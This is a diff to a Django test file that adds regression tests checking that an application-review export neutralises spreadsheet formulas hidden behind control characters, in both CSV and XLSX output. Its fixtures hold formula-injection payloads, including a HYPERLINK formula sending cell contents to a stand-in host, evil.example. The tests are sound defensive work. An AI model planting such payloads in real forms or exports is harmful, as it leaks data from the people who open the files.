@@ -2,12 +2,15 @@
 
 import csv
 import io
+import re
+import zipfile
 
 import openpyxl
 import pytest
 from django.http import StreamingHttpResponse
 
-from reviews.exports import neutralise
+from forms.factories import ApplicationFormFieldFactory
+from reviews.exports import neutralise_row
 
 from .conftest import make_application
 
@@ -99,11 +102,60 @@ def test_cells_that_would_run_as_formulas_are_neutralised(client, reviewer_a, si
 
 
 def test_neutralise_leaves_ordinary_text_alone():
-    assert neutralise("Ada") == "Ada"
-    assert neutralise(None) == ""
-    assert neutralise(["a", "b"]) == "a, b"
-    assert neutralise("=1+1") == "'=1+1"
-    assert neutralise("-5") == "'-5"
+    assert neutralise_row(["Ada", None, "=1+1", "-5", 3]) == ["Ada", "", "'=1+1", "'-5", "3"]
+
+
+# Issue 8, finding 1: a control character before "=" hid the formula from the check, then the
+# XLSX writer stripped it and wrote the rest as a live formula.
+HIDDEN_FORMULAS = {
+    "Full name": "\x01=1+2",
+    "Postcode": '\x08=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
+    "Why do you want to return?": " =1+2",  # spreadsheets may trim leading spaces
+}
+DEFUSED = {
+    "Full name": "'=1+2",
+    "Postcode": '\'=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
+    "Why do you want to return?": "' =1+2",
+}
+
+
+@pytest.fixture
+def hidden_formulas(site):
+    ApplicationFormFieldFactory(page=site["form_a"], label="Postcode", field_type="singleline", sort_order=9)
+    make_application(
+        site["form_a"],
+        site["a"],
+        name=HIDDEN_FORMULAS["Full name"],
+        why=HIDDEN_FORMULAS["Why do you want to return?"],
+        reference="CBSW-0400",
+        extra={"postcode": HIDDEN_FORMULAS["Postcode"], "your_cv": "#N/A"},
+    )
+
+
+def test_xlsx_export_holds_no_formula_when_a_control_character_hides_one(client, reviewer_a, hidden_formulas):
+    client.force_login(reviewer_a)
+    response = client.get(LIST, {"export": "xlsx"})
+    content = b"".join(response.streaming_content)
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        parts = {name: archive.read(name).decode() for name in archive.namelist() if name.endswith(".xml")}
+    assert not [name for name, xml in parts.items() if re.search(r"<(\w+:)?f[\s>/]", xml)]
+    sheet = next(xml for name, xml in parts.items() if name.startswith("xl/worksheets/"))
+    cell_types = set(re.findall(r"<c [^>]*?\bt=\"(\w+)\"", sheet))
+    assert cell_types == {"inlineStr"}, "every cell is written as text (no formula, error or number)"
+    workbook = openpyxl.load_workbook(io.BytesIO(content))
+    header, row = workbook.active.iter_rows(values_only=True)
+    record = dict(zip(header, row, strict=True))
+    assert {label: record[label] for label in DEFUSED} == DEFUSED
+    assert record["Applicant name"] == "'=1+2"
+    assert record["Your CV"] == "#N/A"
+
+
+def test_csv_export_defuses_a_formula_hidden_behind_a_control_character(client, reviewer_a, hidden_formulas):
+    client.force_login(reviewer_a)
+    header, row = csv_rows(client.get(LIST, {"export": "csv"}))
+    record = dict(zip(header, row, strict=True))
+    assert {label: record[label] for label in DEFUSED} == DEFUSED
+    assert record["Applicant name"] == "'=1+2"
 
 
 def test_control_characters_do_not_break_the_xlsx(client, reviewer_a, site):
